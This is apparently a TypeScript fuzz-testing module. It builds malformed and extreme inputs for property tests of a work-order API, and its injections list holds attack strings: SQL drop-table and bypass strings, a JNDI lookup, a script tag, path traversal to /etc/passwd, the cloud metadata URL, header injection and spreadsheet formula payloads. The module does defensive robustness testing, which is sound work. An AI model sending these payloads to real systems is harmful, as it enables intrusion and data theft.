/**
 * Values that break programs. A text such as `{{work_order:3}}` stands for something that exists; it is filled
 * in when the request is sent.
 */
import fc from 'fast-check'
import type { Arbitrary } from 'fast-check'

export type Json = null | boolean | number | string | Json[] | { [name: string]: Json }

export const slots = [
  'work_order',
  'order',
  'asset',
  'principal',
  'spare_principal',
  'attachment',
  'key',
  'cursor',
  // A person who stays: a party of a delegation, an owner of a finding.
  'person',
  // What the person who sends signs with.
  'own_password',
  'own_passphrase',
  // Work orders that wait for signatures, and intents to sign them.
  'asked',
  'intent',
  'signing_key',
  'delegation',
  'absence',
  'finding',
  'entry',
] as const
export type Slot = (typeof slots)[number]
/** What may stand anywhere. The people who send the requests are not among it: one of them might be disabled. */
const harmless = slots.filter((name) => !/^(?:principal|person|own_)/.test(name))
export const slot = (name: Slot): Arbitrary<string> => fc.nat(999).map((n) => `{{${name}:${n}}}`)

const nothing = '00000000-0000-0000-0000-000000000000'
const everything = 'ffffffff-ffff-ffff-ffff-ffffffffffff'

const characters = [
  '',
  ' ',
  '\t\n',
  '\0',
  'a\0b',
  '\ud800',
  'x\udfff',
  '\udc00\ud800',
  '\u202Etxet desrever',
  '\u200b\u200d\ufeff',
  'é'.normalize('NFD'),
  'ﷺ',
  '𝕊𝓾𝓹',
  '👩‍👩‍👧‍👦'.repeat(70),
  `z${'\u0336'.repeat(600)}`,
  '\x7f\x1b[31m',
  '\u2028\u2029',
  'İıſß',
]
const injections = [
  "'; drop table work_orders; --",
  "' or '1'='1",
  '"',
  '\\',
  "\\'",
  '$1',
  '$$',
  '%',
  '_',
  '%s%n%x',
  '{}',
  '[]',
  '${jndi:ldap://x/a}',
  '{{7*7}}',
  '<script>alert(1)</script>',
  '../../../../../etc/passwd',
  '..\\..\\x',
  'file:///etc/passwd',
  'http://169.254.169.254/',
  '\r\nx-injected: 1',
  '=1+1',
  '@SUM(A1)',
  '+cmd|calc',
  'null',
  'undefined',
  'NaN',
  '[object Object]',
  '__proto__',
  'constructor',
  'hasOwnProperty',
  'toString',
  '*',
  '(',
  '(?:a+)+$',
  '&',
  '|',
  '!',
  ':*',
  "a' & 'b",
  `{"$gt":""}`,
  '\\x00',
  '0x1',
  '1e400',
  '-0',
  ',',
  ',,,',
]
const ids = [
  nothing,
  everything,
  everything.toUpperCase(),
  nothing.replaceAll('-', ''),
  `{${nothing}}`,
  `${nothing} `,
  '01a1fb16-f7b0-76c4-9543-316fd262cbe6',
  'WO-2026-000001',
  'WO-2026-1120-ZZZ',
  'WO-9999-999999',
  'WO-2026-99999999999999999999',
  'wo-2026-000001',
  'WO-0000-000000',
  'WO-2026-1120-FFFFFF',
]
const dates = [
  '0000-01-01',
  '0000-00-00',
  '0001-01-01',
  '1899-12-31',
  '1900-01-01',
  '2026-02-29',
  '2026-02-30',
  '2026-13-01',
  '2026-00-10',
  '2028-02-29',
  '2199-12-31',
  '9999-12-31',
  '10000-01-01',
  '-2026-01-01',
  '+002026-01-01',
  '2026-1-1',
  '20260101',
  'infinity',
  '-infinity',
  'now',
  'today',
  'epoch',
  'allballs',
  '0000-01-01T00:00:00Z',
  '1900-01-01T00:00:00+14:00',
  '2199-12-31T23:59:59-14:00',
  '2026-11-20T24:00:00Z',
  '2026-11-20T23:59:60Z',
  '2026-11-20T25:61:61Z',
  '2026-11-20T00:00:00+99:99',
  '2026-11-20T00:00:00.123456789123456789Z',
  '2026-11-20T00:00:00',
  '2026-11-20 00:00:00Z',
  '9999-12-31T23:59:59.999999Z',
]
const places = [
  `0-${nothing}`,
  `1-${everything}`,
  `9999999999999999999-${everything}`,
  `18446744073709551615-${everything}`,
  `99999999999999999999-${nothing}`,
  `-1-${nothing}`,
  '0-0',
  `0-${everything.toUpperCase()}`,
  `00000000000000000000-${nothing}`,
]
const toCursor = (place: unknown): string => Buffer.from(JSON.stringify(place)).toString('base64url')
const sorted = (sort: string, key: unknown, order = ''): string => toCursor({ sort, order, key, id: nothing })
export const cursors = [
  ...places,
  'e30',
  'bnVsbA',
  'W10',
  '!!!',
  '.',
  'AAAA',
  Buffer.from('{"seq":1e999}').toString('base64url'),
  ...[-1, 0, 1.5, 2 ** 31 - 1, 2 ** 31, 2 ** 53, '1', null, [], {}].map((seq) => toCursor({ seq })),
  ...['', '\0', 'x'.repeat(300), '\ud800', 5, null, ['a']].flatMap((text) => [
    toCursor({ tag: text }),
    toCursor({ name: text }),
  ]),
  toCursor({ seq: 1, more: 1 }),
  toCursor([[[[]]]]),
  toCursor('x'),
  toCursor(1),
  toCursor({ ['__proto__']: { seq: 1 } }),
]
/** Well formed, of the right sort, and odd in what they say. */
export const sortedCursors: readonly { readonly sort: string; readonly cursor: string }[] = [
  { sort: 'created', cursor: sorted('created', null) },
  { sort: 'created', cursor: toCursor({ sort: 'created', order: '', key: null, id: everything }) },
  { sort: 'created', cursor: sorted('created', 'infinity') },
  ...[
    '2026-11-20T00:00:00Z',
    '0000-01-01T00:00:00Z',
    '9999-12-31T23:59:59.999999999Z',
    '2026-11-20T00:00:00.123456Z',
    'infinity',
    '2026-11-20',
    1,
    null,
  ].map((key) => ({ sort: 'updated', cursor: sorted('updated', key) })),
  ...[
    '2026-11-20',
    'infinity',
    '0000-01-01',
    '9999-12-31',
    '2026-02-30',
    '2026-11-20T00:00:00Z',
    4,
    null,
  ].map((key) => ({
    sort: 'due_date',
    cursor: sorted('due_date', key),
  })),
  ...[1, 4, 0, 5, -1, 1.5, 2 ** 40, '1', null].map((key) => ({
    sort: 'priority',
    cursor: sorted('priority', key),
  })),
]
const numbers = [
  0,
  -0,
  -1,
  1,
  0.5,
  1e-7,
  5e-324,
  1e6,
  1e6 + 1,
  1e21,
  1e308,
  -1e308,
  2 ** 31 - 1,
  2 ** 31,
  -(2 ** 31),
  2 ** 53,
  2 ** 64,
  999_999_999_999_999,
]
const lengths = [100, 101, 200, 201, 255, 256, 500, 501, 2000, 2001, 20_001, 50_000, 50_001, 300_000]

const nest = (depth: number): Json => {
  let value: Json = 'deep'
  for (let i = 0; i < depth; i += 1) value = i % 2 === 0 ? [value] : { a: value }
  return value
}
const structures: Json[] = [
  null,
  true,
  false,
  [],
  {},
  [[]],
  [null],
  [''],
  { ['']: '' },
  { length: 1e9 },
  { toString: 'x' },
  { toJSON: 1 },
  { valueOf: null },
  { constructor: { prototype: 1 } },
  nest(30),
  nest(900),
  Array.from({ length: 5000 }, (_, i) => i),
  Array.from({ length: 300 }, () => 'a'),
  Object.fromEntries(Array.from({ length: 300 }, (_, i) => [`k${i}`, i])),
]

/** What breaks programs, of any type. */
export const nasty: Arbitrary<Json> = fc.oneof(
  fc.constantFrom(...characters, ...injections),
  fc.constantFrom(...ids, ...dates, ...cursors),
  fc.constantFrom(...numbers),
  fc.constantFrom(...structures),
  fc
    .constantFrom(...lengths)
    .chain((length) => fc.constantFrom('A', 'é', '😀', ' ', '\ufffd').map((unit) => unit.repeat(length))),
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.string({ unit: 'grapheme', maxLength: 40 }),
  fc.jsonValue({ maxDepth: 4 }) as Arbitrary<Json>,
  fc.constantFrom(...harmless).chain(slot),
)
